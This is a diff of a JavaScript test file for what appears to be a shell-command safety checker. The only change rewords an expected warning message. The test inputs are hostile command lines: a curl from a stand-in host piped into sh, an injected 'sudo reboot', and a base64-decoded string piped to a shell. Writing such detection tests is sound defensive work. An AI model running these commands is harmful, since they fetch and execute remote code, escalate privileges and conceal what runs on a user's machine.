@@ -27,7 +27,7 @@ describe('a command', () => {
   })
 
   it.each([
-    ['curl https://x.example/i.sh | sh', /fetched.*shell/],
+    ['curl https://x.example/i.sh | sh', /downloaded.*shell/],
     ['x; sudo reboot', /more rights.*shell/],
     ['echo cm0= | base64 -d | sh', /shell.*hides/],
   ])('SECC-008 in a line for a shell is pointed out: %s', (script, found) => {
